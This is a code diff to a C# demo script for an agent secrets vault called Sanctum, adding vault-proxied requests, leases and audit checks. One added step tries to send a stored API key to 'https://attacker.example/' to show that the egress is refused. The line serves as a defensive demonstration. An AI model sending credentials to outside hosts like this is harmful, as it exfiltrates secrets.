@@ -1,5 +1,6 @@
 using System.Security.Cryptography;
 using Sanctum.Cli.CommandLine;
+using Sanctum.Cli.Loopback;
 using Sanctum.Cli.Operators;
 using Sanctum.Cli.Terminals;
 using Sanctum.Client;
@@ -7,14 +8,16 @@ using Sanctum.Client;
 namespace Sanctum.Cli.Demo;
 
 /// <summary>What <c>sanctum demo</c> tells: operator, agent, audit log. Every sentence with a tick was checked.</summary>
-internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirectory vault, CancellationToken cancelled)
+internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirectory vault, LoopbackService service, CancellationToken cancelled)
 {
     private const string Agent = "helper";
-    private const string ApiKey = "openai/api_key";
+    private const string ApiKey = "shop/api_key";
+    private const string Token = "legacy/token";
     private const string SigningKey = "webhooks/signing_key";
     private const string Ungranted = "prod/database_url";
 
     private readonly string _secret = $"sk-demo-{RandomNumberGenerator.GetHexString(24, lowercase: true)}";
+    private readonly string _token = RandomNumberGenerator.GetHexString(32, lowercase: true);
 
     /// <summary>How many things were checked, and held.</summary>
     public int Checked { get; private set; }
@@ -37,15 +40,17 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         Check($"the daemon answers, in its own process {daemon.ProcessId}", !daemon.Sealed && daemon.ProcessId != Environment.ProcessId);
 
         Heading("2. You put secrets in. They are typed or piped in, never given as arguments");
-        await shell.RunAsync(["store", ApiKey, "--description", "what the helper works with"], _secret).ConfigureAwait(false);
+        await shell.RunAsync(["store", ApiKey, "--header-type", "bearer", "--allow-origin", service.Origin], _secret).ConfigureAwait(false);
+        await shell.RunAsync(["store", Token, "--description", "for a program that can't use the vault yet"], _token).ConfigureAwait(false);
         await shell.RunAsync(["store", SigningKey, "--type", "hmac"], RandomNumberGenerator.GetHexString(64, lowercase: true)).ConfigureAwait(false);
         await shell.RunAsync(["store", Ungranted], "postgres://admin:hunter2@db/prod").ConfigureAwait(false);
+        terminal.Line($"    ({service.Origin} is a service that this demo started; for a real one: --service openai, or --host NAME)");
         Check("on disk they are encrypted: the secret is in none of the vault's files", !IsAnywhereOnDisk(_secret));
 
         Heading("3. You give an agent an identity, and say what it may do");
         await shell.RunAsync(["agent", "register", Agent]).ConfigureAwait(false);
-        await shell.RunAsync(["policy", "add", "helper-reads", "--principal", $"agent:{Agent}", "--resources", "openai/*", "--actions", "list,retrieve", "--max-ttl", "60"]).ConfigureAwait(false);
-        await shell.RunAsync(["policy", "add", "helper-signs", "--principal", $"agent:{Agent}", "--resources", SigningKey, "--actions", "list,use", "--condition", "max_uses_per_hour=100"]).ConfigureAwait(false);
+        await shell.RunAsync(["policy", "add", "helper-uses", "--principal", $"agent:{Agent}", "--resources", $"{ApiKey},{SigningKey}", "--actions", "list,use", "--condition", "max_uses_per_hour=100"]).ConfigureAwait(false);
+        await shell.RunAsync(["policy", "add", "helper-reads", "--principal", $"agent:{Agent}", "--resources", "legacy/*", "--actions", "list,retrieve", "--max-ttl", "60"]).ConfigureAwait(false);
         Check("the agent's private key is in a file that only you can read", OnlyOwnerReads(Path.Join(vault.Keys, $"{Agent}.key")));
     }
 
@@ -59,21 +64,41 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
 
         Code("await client.ListAsync()");
         var paths = (await client.ListAsync(cancellationToken: cancelled).ConfigureAwait(false)).Select(it => it.Path).ToList();
-        Check($"it sees {string.Join(" and ", paths)}, and nothing else", paths is [ApiKey, SigningKey]);
+        Check($"it sees {string.Join(", ", paths)}, and nothing else", paths is [Token, ApiKey, SigningKey]);
 
-        Code($"await client.RetrieveLeaseAsync(\"{ApiKey}\")");
-        await using (var lease = await client.RetrieveLeaseAsync(ApiKey, cancellationToken: cancelled).ConfigureAwait(false))
-        {
-            Check($"it has the secret, on a lease of {lease.Ttl.TotalSeconds:0} seconds", lease.GetString() == _secret && lease.Ttl <= TimeSpan.FromSeconds(60));
-        }
-
+        await AgentCallsAsync(client).ConfigureAwait(false);
         await AgentUsesAsync(client).ConfigureAwait(false);
+        await AgentRetrievesAsync(client).ConfigureAwait(false);
         await AgentIsRefusedAsync(client).ConfigureAwait(false);
+    }
+
+    private async Task AgentCallsAsync(SanctumClient client)
+    {
+        Heading("5. It calls a service with a key that it never holds: the vault makes the request");
+        Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"{service.Origin}/hello\"))");
+        using var request = new HttpRequestMessage(HttpMethod.Get, service.Origin + "/hello");
+        using var response = await client.SendAsync(ApiKey, request, cancelled).ConfigureAwait(false);
+        var answer = await response.Content.ReadAsStringAsync(cancelled).ConfigureAwait(false);
+        Check("the service got the key, from the vault", response.IsSuccessStatusCode && service.Received(_secret));
+        terminal.Line($"    it answered, careless as it is, with the key in it; the agent got: {answer}");
+        Check("the key was taken out of the answer", answer.Length > 0 && !SecretForms.Tells(answer, _secret));
+
+        Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"https://attacker.example/\"))");
+        using var elsewhere = new HttpRequestMessage(HttpMethod.Get, "https://attacker.example/");
+        Check("the key goes nowhere else: EGRESS_DENIED", await CodeAsync(() => client.SendAsync(ApiKey, elsewhere, cancelled)).ConfigureAwait(false) == "EGRESS_DENIED");
+    }
+
+    private async Task AgentRetrievesAsync(SanctumClient client)
+    {
+        Heading("7. Where a program must have the secret itself, it has it for a while");
+        Code($"await client.RetrieveLeaseAsync(\"{Token}\")");
+        await using var lease = await client.RetrieveLeaseAsync(Token, cancellationToken: cancelled).ConfigureAwait(false);
+        Check($"it has the secret, on a lease of {lease.Ttl.TotalSeconds:0} seconds", lease.GetString() == _token && lease.Ttl <= TimeSpan.FromSeconds(60));
     }
 
     private async Task AgentUsesAsync(SanctumClient client)
     {
-        Heading("5. It uses a key that it never sees");
+        Heading("6. It signs and encrypts with a key that it never sees");
         Code($"await client.SignAsync(\"{SigningKey}\", \"order 42\")");
         var signature = await client.SignAsync(SigningKey, "order 42", cancellationToken: cancelled).ConfigureAwait(false);
         Check($"signed with {signature.Algorithm}: {signature.Value[..16]}...", signature.Value.Length > 16);
@@ -88,7 +113,7 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
 
     private async Task AgentIsRefusedAsync(SanctumClient client)
     {
-        Heading("6. What no policy grants is refused");
+        Heading("8. What no policy grants is refused");
         Code($"await client.RetrieveAsync(\"{Ungranted}\")");
         Check("no policy names it: AccessDeniedException", await IsDeniedAsync(() => client.RetrieveAsync(Ungranted, cancellationToken: cancelled)).ConfigureAwait(false));
         Code($"await client.RetrieveAsync(\"{SigningKey}\")");
@@ -97,11 +122,12 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
 
     private async Task OperatorLooksAsync()
     {
-        Heading("7. You see who did what");
+        Heading("9. You see who did what");
         var log = await shell.RunAsync(["audit", "log", "--agent", Agent]).ConfigureAwait(false);
         Check("what the agent did is in the audit log", log.Contains("sign", StringComparison.Ordinal) && log.Contains(ApiKey, StringComparison.Ordinal));
         Check("what it was refused is there too", log.Contains("denied", StringComparison.Ordinal) && log.Contains(Ungranted, StringComparison.Ordinal));
-        Check("the secret is not", !log.Contains(_secret, StringComparison.Ordinal));
+        Check("where the key was sent is there, and that it was taken out of an answer", log.Contains(service.Origin, StringComparison.Ordinal) && log.Contains("scrubbed", StringComparison.Ordinal));
+        Check("the secrets are not", !log.Contains(_secret, StringComparison.Ordinal) && !log.Contains(_token, StringComparison.Ordinal));
         var whole = await shell.RunAsync(["audit", "verify"]).ConfigureAwait(false);
         Check("no entry was changed, removed or added", whole.Contains("the audit log is whole", StringComparison.Ordinal));
         await shell.RunAsync(["daemon", "stop"]).ConfigureAwait(false);
@@ -128,16 +154,18 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         terminal.Line($"  \u2713 {what}");
     }
 
-    private static async Task<bool> IsDeniedAsync(Func<Task> call)
+    private static async Task<bool> IsDeniedAsync(Func<Task> call) => await CodeAsync(call).ConfigureAwait(false) == "ACCESS_DENIED";
+
+    private static async Task<string?> CodeAsync(Func<Task> call)
     {
         try
         {
             await call().ConfigureAwait(false);
-            return false;
+            return null;
         }
-        catch (AccessDeniedException)
+        catch (Sanctum.Client.VaultException refused)
         {
-            return true;
+            return refused.Code;
         }
     }
 
